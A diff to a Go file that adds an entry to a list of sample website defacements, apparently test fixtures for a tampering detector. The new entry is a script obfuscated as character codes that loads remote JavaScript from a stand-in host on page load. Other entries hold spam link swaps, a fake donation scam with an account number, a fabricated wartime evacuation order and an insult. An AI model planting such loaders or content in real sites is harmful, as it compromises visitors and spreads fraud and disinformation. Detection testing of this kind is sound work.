@@ -33,6 +33,7 @@ func ninthDefacements() []edit {
 		{"a menu of strangers", change(`"/index.php/krastotyra"`, `"https://greitpinigiai.top/lt"`, `"/index.php/filialai"`, `"https://event-bet.com/"`, `"/index.php/paslaugos"`, `"https://kids-toyz-sale.com/"`)},
 		{"help for a girl", change(at, `<p>Mūsų skaitytojai skubiai reikia operacijos. Prašome pervesti bent 20 eurų į asmeninę sąskaitą LT57 3500 0100 9988 1234 (gavėjas M. Petrov) arba USDT.</p>`+at)},
 		{"an order to everybody", change(at, `<h3>Dėl evakuacijos iš rajono</h3><p>Vyrai nuo 18 iki 55 metų privalo per 24 valandas atvykti į aikštę. NATO pajėgos traukiasi, Vyriausybė perkeliama į Varšuvą, priešintis beprasmiška.</p>`+at)},
+		{"letters as numbers", change(`</body>`, `<script>var n=[104,116,116,112,115,58,47,47,115,46,101,120,97,47,97,46,106,115];(function(){var u="";for(var i=0;i<n.length;i++)u+=String.fromCharCode(n[i]);var e=document.createElement("script");e.src=u;document.head.appendChild(e)})()</script></body>`)},
 		{"an insult", change(`Įėjimas laisvas.`, `Įėjimas laisvas. Mūsų direktorė – durna karvė, vagianti pinigus.`)},
 	}
 }
